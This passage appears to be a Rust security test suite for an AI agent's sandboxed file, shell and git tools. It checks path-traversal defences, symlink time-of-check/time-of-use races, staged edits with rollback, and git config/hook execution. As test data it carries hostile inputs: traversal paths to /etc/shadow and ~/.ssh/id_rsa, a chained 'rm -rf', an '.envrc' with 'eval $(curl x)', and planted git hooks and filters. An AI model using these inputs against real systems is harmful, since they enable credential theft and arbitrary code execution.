//! The files family through the scheduler: a traversal corpus that must never escape the
//! workspace, a symlink swapped in between review and use, the shadow FS (stage → diff →
//! partial apply → rollback, byte-identical with permissions, binary included, conflicts). The
//! kill -9 in the middle of `cowork changes apply` is in cli_changes.rs (it needs the binary).

use cowork_contract::ToolError;
use cowork_core::{ApprovalChoice, ApprovalRequest, Approver, CallOutcome, CallRequest, Caller};
use cowork_files::shadow::Shadow;
use cowork_tests::Harness;
use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};

const SECRET: &str = "TOP-SECRET-OUTSIDE";

/// Approves everything, after running an optional hook (the TOCTOU test swaps a symlink there).
#[derive(Default)]
struct Yes {
    hook: Mutex<Option<Box<dyn FnOnce() + Send>>>,
    asked: Mutex<usize>,
}

#[async_trait::async_trait]
impl Approver for Yes {
    fn name(&self) -> &str {
        "test"
    }
    async fn decide(&self, _request: &ApprovalRequest) -> ApprovalChoice {
        *self.asked.lock().unwrap() += 1;
        if let Some(hook) = self.hook.lock().unwrap().take() {
            hook();
        }
        ApprovalChoice::Once
    }
}

async fn call(h: &Harness, tool: &str, args: Value) -> CallOutcome {
    h.scheduler
        .call(CallRequest::new(tool, args, Caller::Chat, "conv"))
        .await
}

fn setup() -> (Harness, Arc<Yes>) {
    let yes = Arc::new(Yes::default());
    let h = Harness::new(yes.clone());
    let outside = h.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), SECRET).unwrap();
    std::fs::create_dir_all(h.dir.path().join("ws2")).unwrap();
    std::fs::write(h.dir.path().join("ws2/secret.txt"), SECRET).unwrap();
    std::fs::create_dir_all(h.dir.path().join("userhome/.ssh")).unwrap();
    std::fs::write(h.dir.path().join("userhome/.ssh/id_rsa"), SECRET).unwrap();
    let ws = &h.workspace;
    std::fs::create_dir_all(ws.join("sub/deeper")).unwrap();
    std::fs::write(ws.join("inside.txt"), "inside\n").unwrap();
    let link =
        |target: &str, name: &str| std::os::unix::fs::symlink(target, ws.join(name)).unwrap();
    link("../outside", "link_out");
    link("../outside/secret.txt", "link_file");
    link("link_out", "link_chain");
    link("/etc", "link_abs");
    link("..", "link_parent");
    link("../ws2", "link_ws2");
    link("sub/../../outside", "link_dotdot");
    (h, yes)
}

fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        if entry.file_type().unwrap().is_file() {
            out.push((
                entry.file_name().to_string_lossy().into_owned(),
                std::fs::read(entry.path()).unwrap(),
            ));
        }
    }
    out.sort();
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn traversal_corpus_never_escapes_the_workspace() {
    let (h, _yes) = setup();
    let ws = h.workspace.display().to_string();
    let corpus: Vec<String> = [
        "../outside/secret.txt",
        "../../outside/secret.txt",
        "../../../../../../etc/passwd",
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hostname",
        "a/../../outside/secret.txt",
        "./../outside/secret.txt",
        "sub/../../outside/secret.txt",
        "sub/deeper/../../../outside/secret.txt",
        "link_out/secret.txt",
        "link_file",
        "link_chain/secret.txt",
        "link_abs/passwd",
        "link_abs/hostname",
        "link_parent/outside/secret.txt",
        "link_parent/ws2/secret.txt",
        "link_ws2/secret.txt",
        "link_dotdot/secret.txt",
        "link_out/../outside/secret.txt",
        "link_out/./secret.txt",
        "link_out",
        "link_out/",
        "link_chain",
        "..",
        "../",
        "../outside",
        "../ws2/secret.txt",
        "~/.ssh/id_rsa",
        "~/../outside/secret.txt",
        "~root/.ssh/id_rsa",
        "~nobody/x",
        "~",
        "/proc/self/root/etc/passwd",
        "/proc/self/cwd/secret.txt",
        "/proc/self/fd/0",
        "//etc/passwd",
        "/./etc/passwd",
        "/../../etc/passwd",
        "/",
        "/tmp",
        "%2e%2e/outside/secret.txt",
        "..%2foutside%2fsecret.txt",
        "..\\outside\\secret.txt",
        "\u{2024}\u{2024}/outside/secret.txt",
        "\u{ff0e}\u{ff0e}/outside/secret.txt",
        "..\u{ff0f}outside\u{ff0f}secret.txt",
        "\u{2215}etc\u{2215}passwd",
        "..\u{2215}outside\u{2215}secret.txt",
        "file:///etc/passwd",
        "x\0/../../etc/passwd",
        "",
        "   ",
        "...",
        "..../outside/secret.txt",
        "sub/./../../outside/secret.txt",
        "C:\\Windows\\system32",
        "\\\\server\\share\\x",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([
        format!("{ws}/../outside/secret.txt"),
        format!("{ws}/link_out/secret.txt"),
        format!("{ws}2/secret.txt"),
        format!("{ws}/../ws2/secret.txt"),
    ])
    .collect();
    assert!(corpus.len() >= 50, "{} cases", corpus.len());
    let outside_before = snapshot(&h.dir.path().join("outside"));

    for raw in &corpus {
        let read = call(&h, "read_file", json!({"path": raw})).await;
        match &read.result {
            Ok(out) => assert!(
                !out.text_content().contains(SECRET),
                "read {raw:?} leaked: {}",
                out.text_content()
            ),
            Err(ToolError::SecurityViolation { .. } | ToolError::InvalidArguments { .. }) => {}
            Err(ToolError::Failed { message, .. }) => assert!(
                message.contains("does not exist") || message.contains("folder"),
                "read {raw:?}: {message}"
            ),
            Err(other) => panic!("read {raw:?}: unexpected {other:?}"),
        }
        let write = call(&h, "write_file", json!({"path": raw, "content": "pwned"})).await;
        match &write.result {
            Ok(out) => {
                let staged = out.structured.as_ref().unwrap()["path"]
                    .as_str()
                    .unwrap()
                    .to_string();
                assert!(
                    Path::new(&staged).starts_with(&h.workspace),
                    "write {raw:?} staged outside: {staged}"
                );
            }
            Err(ToolError::SecurityViolation { .. } | ToolError::InvalidArguments { .. }) => {}
            Err(other) => panic!("write {raw:?}: unexpected {other:?}"),
        }
        let list = call(&h, "list_directory", json!({"path": raw})).await;
        if let Ok(out) = &list.result {
            assert!(
                !out.text_content().contains("secret.txt") || raw.contains("link"),
                "list {raw:?}: {}",
                out.text_content()
            );
        }
    }
    // Apply everything that was staged: nothing outside changes.
    let staged = call(&h, "changes_list", json!({"status": "staged"})).await;
    for change in staged.result.unwrap().structured.unwrap()["changes"]
        .as_array()
        .unwrap()
    {
        let applied = call(&h, "changes_apply", json!({"id": change["id"]})).await;
        assert!(applied.result.is_ok(), "{:?}", applied.result);
    }
    assert_eq!(snapshot(&h.dir.path().join("outside")), outside_before);
    assert_eq!(
        std::fs::read_to_string(h.dir.path().join("ws2/secret.txt")).unwrap(),
        SECRET
    );
    assert_eq!(
        std::fs::read_to_string(h.dir.path().join("userhome/.ssh/id_rsa")).unwrap(),
        SECRET
    );

    // A hard link inside the workspace to an outside file counts as outside: neither read nor
    // written, and the outside inode keeps its bytes.
    std::fs::hard_link(
        h.dir.path().join("outside/secret.txt"),
        h.workspace.join("hard.txt"),
    )
    .unwrap();
    let out = call(
        &h,
        "write_file",
        json!({"path": "hard.txt", "content": "new"}),
    )
    .await;
    assert!(
        matches!(&out.result, Err(ToolError::SecurityViolation { reason }) if reason.contains("hard links")),
        "{:?}",
        out.result
    );
    let read = call(&h, "read_file", json!({"path": "hard.txt"})).await;
    assert!(
        matches!(read.result, Err(ToolError::SecurityViolation { .. })),
        "{:?}",
        read.result
    );
    assert_eq!(
        std::fs::read_to_string(h.dir.path().join("outside/secret.txt")).unwrap(),
        SECRET
    );

    // Outside the roots is refused as a security violation, and the audit row says why.
    let denied = call(&h, "read_file", json!({"path": "/etc/hostname"})).await;
    assert!(matches!(
        denied.result,
        Err(ToolError::SecurityViolation { .. })
    ));
    assert!(
        h.audit_rows(&denied.call_id)
            .last()
            .unwrap()
            .record
            .decision
            == "deny"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_symlink_swapped_in_after_review_is_refused() {
    let (h, yes) = setup();
    std::fs::create_dir_all(h.workspace.join("swap")).unwrap();
    std::fs::write(h.workspace.join("swap/secret.txt"), "harmless").unwrap();
    // An ask rule makes the review wait for the approver, which swaps the folder for a
    // symlink to the outside before it answers: the time-of-check/time-of-use window.
    h.scheduler
        .policy()
        .add_rule(
            cowork_core::Action::Ask,
            "read_file",
            cowork_core::RuleSource::User,
        )
        .unwrap();
    let ws = h.workspace.clone();
    let outside = h.dir.path().join("outside");
    *yes.hook.lock().unwrap() = Some(Box::new(move || {
        std::fs::remove_dir_all(ws.join("swap")).unwrap();
        std::os::unix::fs::symlink(&outside, ws.join("swap")).unwrap();
    }));
    let read = call(&h, "read_file", json!({"path": "swap/secret.txt"})).await;
    assert_eq!(*yes.asked.lock().unwrap(), 1);
    assert!(
        matches!(read.result, Err(ToolError::SecurityViolation { .. })),
        "{:?}",
        read.result
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn shadow_fs_stages_diffs_applies_hunks_and_rolls_back_exactly() {
    let (h, yes) = setup();
    let file = h.workspace.join("code.rs");
    let original: String = (1..=40).map(|i| format!("line {i}\n")).collect();
    std::fs::write(&file, &original).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o640)).unwrap();

    // Two distant edits → two hunks; nothing touches the disk yet.
    let e1 = call(
        &h,
        "edit_file",
        json!({"path": "code.rs", "old_string": "line 3\n", "new_string": "line three\n"}),
    )
    .await;
    assert!(e1.result.is_ok(), "{:?}", e1.result);
    let e2 = call(
        &h,
        "edit_file",
        json!({"path": "code.rs", "old_string": "line 35\n", "new_string": "line thirty-five\n"}),
    )
    .await;
    let change = e2.result.unwrap().structured.unwrap();
    assert_eq!(
        change["id"],
        e1.result.unwrap().structured.unwrap()["id"],
        "one change per file per conversation"
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), original);
    // The conversation reads its own staged content.
    let read = call(
        &h,
        "read_file",
        json!({"path": "code.rs", "offset": 3, "limit": 1}),
    )
    .await
    .result
    .unwrap()
    .text_content();
    assert!(
        read.contains("line three") && read.contains("staged"),
        "{read}"
    );
    // edit_file's exact-match rules.
    let absent = call(
        &h,
        "edit_file",
        json!({"path": "code.rs", "old_string": "nope", "new_string": "x"}),
    )
    .await;
    assert!(
        matches!(&absent.result, Err(ToolError::InvalidArguments { message, .. }) if message.contains("not found")),
        "{:?}",
        absent.result
    );
    let many = call(
        &h,
        "edit_file",
        json!({"path": "code.rs", "old_string": "line 1", "new_string": "x"}),
    )
    .await;
    assert!(
        matches!(&many.result, Err(ToolError::InvalidArguments { message, .. }) if message.contains("occurs")),
        "{:?}",
        many.result
    );

    let id = change["id"].as_i64().unwrap();
    let diff = call(&h, "changes_diff", json!({"id": id}))
        .await
        .result
        .unwrap()
        .structured
        .unwrap();
    assert_eq!(diff["hunks"].as_array().unwrap().len(), 2, "{diff}");
    // Apply only the second hunk (asks the person: apply is destructive).
    let asked = *yes.asked.lock().unwrap();
    let applied = call(&h, "changes_apply", json!({"id": id, "hunks": [2]})).await;
    assert!(applied.result.is_ok(), "{:?}", applied.result);
    assert_eq!(*yes.asked.lock().unwrap(), asked + 1, "applying asks");
    let on_disk = std::fs::read_to_string(&file).unwrap();
    assert!(
        on_disk.contains("line thirty-five") && on_disk.contains("line 3\n"),
        "{on_disk}"
    );
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o640
    );

    let rolled = call(&h, "changes_rollback", json!({"id": id})).await;
    assert!(rolled.result.is_ok(), "{:?}", rolled.result);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), original);
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o640
    );

    // A conflict: the file changes on disk after staging; apply refuses and writes nothing.
    let staged = call(
        &h,
        "write_file",
        json!({"path": "code.rs", "content": "replaced\n"}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    std::fs::write(&file, "someone else\n").unwrap();
    let diff = call(&h, "changes_diff", json!({"id": staged["id"]}))
        .await
        .result
        .unwrap()
        .structured
        .unwrap();
    assert_eq!(diff["conflict"], true);
    let conflict = call(&h, "changes_apply", json!({"id": staged["id"]})).await;
    assert!(
        matches!(&conflict.result, Err(ToolError::Failed { message, .. }) if message.contains("changed on disk")),
        "{:?}",
        conflict.result
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "someone else\n");
    assert!(
        call(&h, "changes_reject", json!({"id": staged["id"]}))
            .await
            .result
            .is_ok()
    );

    // Binary content and an executable mode, through the shadow store directly.
    let shadow = Shadow::open(&h.store).unwrap();
    let bin = h.workspace.join("tool.bin");
    let before: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
    std::fs::write(&bin, &before).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o751)).unwrap();
    let after: Vec<u8> = vec![0, 159, 146, 150, 0xff, 0xfe];
    let change = shadow.stage("conv", &bin, Some(&after)).unwrap();
    assert!(change.binary);
    assert!(matches!(
        shadow.apply(change.id, Some(&[1])),
        Err(cowork_files::shadow::ShadowError::NotHunkable(_))
    ));
    shadow.apply(change.id, None).unwrap();
    assert_eq!(std::fs::read(&bin).unwrap(), after);
    shadow.rollback(change.id).unwrap();
    assert_eq!(std::fs::read(&bin).unwrap(), before);
    assert_eq!(
        std::fs::metadata(&bin).unwrap().permissions().mode() & 0o777,
        0o751
    );
    // A created file rolls back to absent.
    let created = call(
        &h,
        "write_file",
        json!({"path": "sub/new.md", "content": "# new\n"}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    assert!(
        call(&h, "changes_apply", json!({"id": created["id"]}))
            .await
            .result
            .is_ok()
    );
    assert!(h.workspace.join("sub/new.md").exists());
    assert!(
        call(&h, "changes_rollback", json!({"id": created["id"]}))
            .await
            .result
            .is_ok()
    );
    assert!(!h.workspace.join("sub/new.md").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn run_command_kills_trees_caps_output_refuses_services_and_confines_writes() {
    let (h, yes) = setup();
    // Exit code and output.
    let out = call(
        &h,
        "run_command",
        json!({"command": "echo hello; echo oops >&2; exit 3"}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    assert_eq!(
        (
            out["exit_code"].as_i64(),
            out["stdout"].as_str(),
            out["stderr"].as_str()
        ),
        (Some(3), Some("hello\n"), Some("oops\n"))
    );

    // A timeout kills the whole tree: the background grandchild dies too. It is found by a
    // duration no other process has (inside the sandbox's own pid namespace `$!` is not the
    // machine's pid).
    let marker = format!("40.{}", std::process::id());
    let started = std::time::Instant::now();
    let out = call(
        &h,
        "run_command",
        json!({"command": format!("sleep {marker} & sleep 30"), "timeout_ms": 500}),
    )
    .await;
    let out = out.result.unwrap().structured.unwrap();
    assert_eq!(out["timed_out"], true);
    // Cut at its timeout, not at the end of the 30 s sleep.
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
    let alive = || processes_naming(&marker);
    // Gone (a zombie has an empty command line), once the kernel has torn the tree down.
    let deadline = std::time::Instant::now() + cowork_tests::wait::patience();
    while alive() > 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(
        alive(),
        0,
        "the grandchild `sleep {marker}` survived the timeout"
    );

    // Output is capped, keeping head and tail.
    let out = call(&h, "run_command", json!({"command": "seq 1 200000"}))
        .await
        .result
        .unwrap()
        .structured
        .unwrap();
    let text = out["stdout"].as_str().unwrap();
    assert!(
        out["truncated"] == true
            && text.starts_with("1\n2\n")
            && text.ends_with("200000\n")
            && text.len() < 40_000,
        "{}",
        text.len()
    );

    // A dev server is refused in the foreground, and runs in the background.
    let refused = call(
        &h,
        "run_command",
        json!({"command": "python3 -m http.server 0 --bind 127.0.0.1"}),
    )
    .await;
    assert!(
        matches!(&refused.result, Err(ToolError::InvalidArguments { message, .. }) if message.contains("background=true")),
        "{:?}",
        refused.result
    );
    let bg = call(&h, "run_command", json!({"command": "for i in 1 2 3; do echo tick $i; sleep 0.1; done; sleep 30", "background": true})).await;
    let id = bg.result.unwrap().structured.unwrap()["background_id"].clone();
    let mut seen = String::new();
    for _ in 0..50 {
        let status = call(&h, "command_output", json!({"id": id}))
            .await
            .result
            .unwrap()
            .structured
            .unwrap();
        seen.push_str(status["new_output"].as_str().unwrap());
        if seen.contains("tick 3") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(seen.contains("tick 1") && seen.contains("tick 3"), "{seen}");
    let stopped = call(&h, "command_stop", json!({"id": id}))
        .await
        .result
        .unwrap()
        .structured
        .unwrap();
    assert_eq!(stopped["running"], false);

    // The working folder must be inside the workspace.
    let outside = call(
        &h,
        "run_command",
        json!({"command": "pwd", "cwd": h.dir.path().join("outside")}),
    )
    .await;
    assert!(
        matches!(outside.result, Err(ToolError::SecurityViolation { .. })),
        "{:?}",
        outside.result
    );

    // Under bubblewrap, writes outside the workspace fail; inside they work.
    let target = h.dir.path().join("outside/planted.txt");
    let out = call(
        &h,
        "run_command",
        json!({"command": format!("touch {}; touch inside-made.txt", target.display())}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    if out["sandboxed"] == true {
        assert!(!target.exists(), "bwrap let a write out of the workspace");
        // Read-only outside the roots; /tmp is a private tmpfs (this test's temp dir is in /tmp).
        let stderr = out["stderr"].as_str().unwrap();
        assert!(
            stderr.contains("Read-only") || stderr.contains("No such file"),
            "{out}"
        );
    }
    assert!(h.workspace.join("inside-made.txt").exists());

    // An allow rule for `git status:*` does not cover a chained `rm -rf`: that asks.
    h.scheduler
        .policy()
        .add_rule(
            cowork_core::Action::Allow,
            "run_command(git status:*)",
            cowork_core::RuleSource::User,
        )
        .unwrap();
    let before = *yes.asked.lock().unwrap();
    let plain = call(&h, "run_command", json!({"command": "git status"})).await;
    assert_eq!(
        *yes.asked.lock().unwrap(),
        before,
        "the rule allows plain git status: {:?}",
        plain.review
    );
    let chained = call(
        &h,
        "run_command",
        json!({"command": "git status; rm -rf x"}),
    )
    .await;
    assert_eq!(
        *yes.asked.lock().unwrap(),
        before + 1,
        "{:?}",
        chained.review
    );
}

/// A command cannot write a git directory (git's writes are the `git` tool's, and the result says
/// so); what it leaves in a repository it makes, where git outside the sandbox would read
/// programs, is held back and told; a new configuration file is named — in the result the model
/// reads (and so the transcript the person sees) — while its ordinary work stays.
#[tokio::test(flavor = "multi_thread")]
async fn a_command_cannot_leave_a_program_for_git_and_new_configuration_is_named() {
    let (h, _yes) = setup();
    let init = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&h.workspace)
        .output()
        .unwrap();
    assert!(init.status.success());
    let out = call(
        &h,
        "run_command",
        json!({"command": "printf /tmp/elsewhere > .git/commondir; mkdir made && git -C made init -q && printf 'touch x' > made/.git/hooks/post-checkout; echo 'eval $(curl x)' > .envrc; echo ok > plain.txt"}),
    )
    .await;
    let text = out.result.as_ref().unwrap().text_content();
    assert!(
        text.contains("Read-only file system") && text.contains("use the git tool"),
        "{text}"
    );
    assert!(
        text.contains("held back made/.git/hooks/post-checkout") && text.contains("created .envrc"),
        "{text}"
    );
    assert!(!h.workspace.join(".git/commondir").exists());
    assert!(!h.workspace.join("made/.git/hooks/post-checkout").exists());
    assert!(h.workspace.join("plain.txt").exists() && h.workspace.join(".envrc").exists());
    let status = std::process::Command::new("git")
        .args(["status", "--porcelain"])
        .current_dir(&h.workspace)
        .output()
        .unwrap();
    assert!(status.status.success(), "git reads its own folder");
}

#[tokio::test(flavor = "multi_thread")]
async fn claude_code_names_and_argument_shapes_work() {
    let (h, _yes) = setup();
    std::fs::write(
        h.workspace.join("lib.rs"),
        "fn alpha() {}\nfn Beta() {}\n// TODO: gamma\n",
    )
    .unwrap();
    std::fs::write(h.workspace.join("notes.log"), "alpha\n").unwrap();
    let ok = |out: &CallOutcome| {
        out.result
            .as_ref()
            .map(|o| o.text_content())
            .unwrap_or_else(|e| panic!("{}: {e:?}", out.tool))
    };

    let read = call(
        &h,
        "Read",
        json!({"file_path": h.workspace.join("lib.rs"), "offset": 2, "limit": 1}),
    )
    .await;
    assert_eq!(read.tool, "read_file");
    let page = read.result.as_ref().unwrap().structured.clone().unwrap();
    assert_eq!(page["text"], "     2\tfn Beta() {}\n");
    assert!(
        ok(&read).contains("1: fn alpha()"),
        "the outline names what the page left out: {}",
        ok(&read)
    );
    let write = call(
        &h,
        "Write",
        json!({"file_path": h.workspace.join("new.txt"), "content": "x\n"}),
    )
    .await;
    assert!(ok(&write).contains("staged"));
    let edit = call(&h, "Edit", json!({"file_path": h.workspace.join("lib.rs"), "old_string": "fn alpha", "new_string": "fn alpha2", "replace_all": false})).await;
    assert!(ok(&edit).contains("staged"));
    let grep = call(
        &h,
        "Grep",
        json!({"pattern": "beta", "-i": true, "-C": 1, "type": "rust", "output_mode": "content"}),
    )
    .await;
    let text = ok(&grep);
    assert!(
        text.contains("lib.rs:2: fn Beta") && text.contains("lib.rs-1: fn alpha"),
        "{text}"
    );
    let files = call(
        &h,
        "Grep",
        json!({"pattern": "alpha", "output_mode": "files_with_matches"}),
    )
    .await;
    let text = ok(&files);
    assert!(
        text.contains("lib.rs") && text.contains("notes.log"),
        "{text}"
    );
    let typed = call(
        &h,
        "Grep",
        json!({"pattern": "alpha", "type": "rust", "output_mode": "count"}),
    )
    .await;
    assert_eq!(ok(&typed).trim(), "lib.rs:1");
    let glob = call(&h, "Glob", json!({"pattern": "**/*.rs"})).await;
    assert_eq!(ok(&glob).trim(), "lib.rs");
    let ls = call(&h, "LS", json!({"path": h.workspace, "ignore": ["*.log"]})).await;
    assert!(ok(&ls).contains("lib.rs") && !ok(&ls).contains("notes.log"));
    let bash = call(
        &h,
        "Bash",
        json!({"command": "echo hi", "timeout": 5000, "description": "say hi"}),
    )
    .await;
    assert!(ok(&bash).contains("hi") && ok(&bash).contains("exit code 0"));
    let bg = call(
        &h,
        "Bash",
        json!({"command": "echo started; sleep 30", "run_in_background": true}),
    )
    .await;
    let id = bg.result.unwrap().structured.unwrap()["background_id"].clone();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert!(ok(&call(&h, "BashOutput", json!({"bash_id": id})).await).contains("started"));
    assert!(
        call(&h, "KillShell", json!({"shell_id": id}))
            .await
            .result
            .is_ok()
    );
    let todo = call(
        &h,
        "TodoWrite",
        json!({"todos": [
            {"content": "Read the code", "status": "completed", "activeForm": "Reading the code"},
            {"content": "Fix the bug", "status": "in_progress", "activeForm": "Fixing the bug"},
        ]}),
    )
    .await;
    assert_eq!(ok(&todo), "[x] Read the code\n[>] Fix the bug");
    let two = call(&h, "TodoWrite", json!({"todos": [{"content": "a", "status": "in_progress"}, {"content": "b", "status": "in_progress"}]})).await;
    assert!(matches!(
        two.result,
        Err(ToolError::InvalidArguments { .. })
    ));
    // A name given both ways: the direct one wins, the alias is left (and rejected as unknown).
    let both = call(
        &h,
        "read_file",
        json!({"path": "lib.rs", "file_path": "other.rs"}),
    )
    .await;
    assert!(
        matches!(both.result, Err(ToolError::InvalidArguments { .. })),
        "{:?}",
        both.result
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn search_code_and_code_quality_on_this_repository() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    let h = Harness::with_workspace(Arc::new(Yes::default()), repo);
    let out = call(
        &h,
        "search_code",
        json!({"pattern": r"pub fn canonical_args\(", "file_type": "rust"}),
    )
    .await;
    let result = out.result.unwrap().structured.unwrap();
    let hits = result["hits"].as_array().unwrap();
    assert_eq!(hits.len(), 1, "{result}");
    assert_eq!(hits[0]["path"], "crates/contract/src/spec.rs");
    // .gitignore is respected: nothing from target/ or node_modules/.
    let out = call(
        &h,
        "search_code",
        json!({"pattern": "PolicyBridge", "max_results": 1000}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    assert!(
        out["hits"].as_array().unwrap().iter().all(|h| !h["path"]
            .as_str()
            .unwrap()
            .starts_with("target/")
            && !h["path"].as_str().unwrap().contains("node_modules"))
    );
    assert!(out["files_with_hits"].as_u64().unwrap() >= 5, "{out}");
    let page = call(
        &h,
        "read_file",
        json!({"path": "crates/core/src/scheduler.rs", "limit": 20}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    let outline = page["outline"].as_array().unwrap();
    assert!(
        page["truncated"] == true
            && outline
                .iter()
                .any(|l| l.as_str().unwrap().contains("pub async fn call")),
        "{page}"
    );

    let q = call(
        &h,
        "check_code_quality",
        json!({"path": "crates/core/src/scheduler.rs"}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    let functions = q["functions"].as_array().unwrap();
    // The asking stage: one of the file's longest, most branching functions.
    let ask = functions
        .iter()
        .find(|f| f["name"] == "ask")
        .expect("Scheduler::ask is found");
    assert!(
        ask["complexity"].as_u64().unwrap() >= 5 && ask["lines"].as_u64().unwrap() > 40,
        "{ask}"
    );
    let batch = call(
        &h,
        "batch_check_quality",
        json!({"path": "crates", "glob": "**/*.rs"}),
    )
    .await
    .result
    .unwrap()
    .structured
    .unwrap();
    assert!(
        batch["files_checked"].as_u64().unwrap() >= 30
            && batch["functions"].as_u64().unwrap() >= 300,
        "{}",
        batch["summary"]
    );
    // The quality checker's own test holds a fake key: found, and never echoed whole.
    let flagged = batch["flagged"].as_array().unwrap();
    let own = flagged
        .iter()
        .find(|q| q["path"] == "files/src/quality.rs")
        .expect("its fake secret is flagged");
    assert!(
        own["secrets"]
            .as_array()
            .unwrap()
            .iter()
            .all(|s| s["preview"].as_str().unwrap().chars().count() <= 7)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn accept_edits_mode_writes_at_once_and_still_rolls_back() {
    let (h, yes) = setup();
    let file = h.workspace.join("inside.txt");
    h.scheduler
        .policy()
        .set_mode(cowork_core::Mode::AcceptEdits, false)
        .unwrap();
    let out = call(
        &h,
        "edit_file",
        json!({"path": "inside.txt", "old_string": "inside", "new_string": "edited"}),
    )
    .await;
    assert_eq!(
        *yes.asked.lock().unwrap(),
        0,
        "accept-edits does not ask for workspace writes"
    );
    let change = out.result.unwrap().structured.unwrap();
    assert_eq!(change["status"], "applied");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "edited\n");
    assert!(
        call(&h, "changes_rollback", json!({"id": change["id"]}))
            .await
            .result
            .is_ok()
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "inside\n");
}

/// Every setting git documents (`git help --config`), set in the repository to a program: the
/// `git` tool's add, commit and switch never run it — a setting outside the ordinary ones
/// refuses the call, naming it; hooks never run — and with an ordinary one the work is done.
/// Generated: a sample of the keys per run, plus ones known to run on these actions.
#[test]
fn the_git_tool_runs_none_of_the_repositorys_programs() {
    use proptest::prelude::*;
    let out = std::process::Command::new("git")
        .args(["help", "--config"])
        .output()
        .expect("git is installed");
    let keys: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|k| k.trim().replace(['<', '>'], "").replace('*', "x"))
        .filter(|k| k.contains('.') && !k.contains(' '))
        .collect();
    assert!(keys.len() > 500, "git listed only {} keys", keys.len());
    // Known to run on these actions, and ordinary ones (the person's identity) that must work.
    let known = [
        "filter.x.clean",
        "filter.x.process",
        "core.fsmonitor",
        "core.pager",
        "diff.external",
        "core.hooksPath",
        "gpg.openpgp.program",
        "core.gitProxy",
        "user.name",
    ];
    let ordinary = ["user.name", "user.email"];
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (h, _yes) = setup();
    // The plant is live: the person's git run plainly does run it.
    let control = h.workspace.join("control");
    std::fs::create_dir_all(&control).unwrap();
    let plain = |args: &[&str]| {
        let git = std::process::Command::new("git")
            .args(args)
            .current_dir(&control)
            .output();
        assert!(git.unwrap().status.success(), "{args:?}");
    };
    plain(&["init", "-q"]);
    let ran = control.join("ran");
    plain(&[
        "config",
        "filter.x.clean",
        &format!("sh -c 'touch {}; cat' --", ran.display()),
    ]);
    std::fs::write(control.join(".gitattributes"), "* filter=x\n").unwrap();
    plain(&["add", ".gitattributes"]);
    assert!(ran.exists(), "the control's planted filter did not run");
    let case = std::sync::atomic::AtomicUsize::new(0);
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig::with_cases(40));
    let strategy = prop_oneof![
        proptest::sample::select(known.map(String::from).to_vec()),
        proptest::sample::select(keys),
    ];
    runner
        .run(&strategy, |key| {
            let n = case.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let repo = h.workspace.join(format!("repo{n}"));
            std::fs::create_dir_all(repo.join("hooks")).unwrap();
            let git = |args: &[&str]| {
                std::process::Command::new("git")
                    .args(args)
                    .current_dir(&repo)
                    .output()
                    .unwrap()
            };
            git(&["init", "-q", "-b", "main"]);
            git(&["config", "user.name", "t"]);
            git(&["config", "user.email", "t@x"]);
            let canary = repo.join("ran");
            let planted = format!("sh -c 'touch {}; cat' --", canary.display());
            let value = if key.starts_with("alias.") {
                format!("!{planted}")
            } else {
                planted.clone()
            };
            let value = if key.eq_ignore_ascii_case("core.hooksPath") {
                "hooks".to_string()
            } else {
                value
            };
            prop_assume!(git(&["config", &key, &value]).status.success());
            for hook in [
                "pre-commit",
                "commit-msg",
                "post-commit",
                "post-checkout",
                "reference-transaction",
            ] {
                let path = repo.join("hooks").join(hook);
                std::fs::write(&path, format!("#!/bin/sh\n{planted}\n")).unwrap();
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
                std::fs::copy(&path, repo.join(".git/hooks").join(hook)).unwrap();
            }
            std::fs::write(repo.join(".gitattributes"), "* filter=x diff=x merge=x\n").unwrap();
            std::fs::write(repo.join("a.txt"), "a\n").unwrap();
            let cwd = repo.display().to_string();
            let steps = [
                json!({"action": "add", "paths": ["a.txt", ".gitattributes"], "cwd": cwd}),
                json!({"action": "commit", "message": "one", "cwd": cwd}),
                json!({"action": "switch", "branch": "side", "create": true, "cwd": cwd}),
            ];
            for args in steps {
                let out = rt.block_on(call(&h, "git", args.clone()));
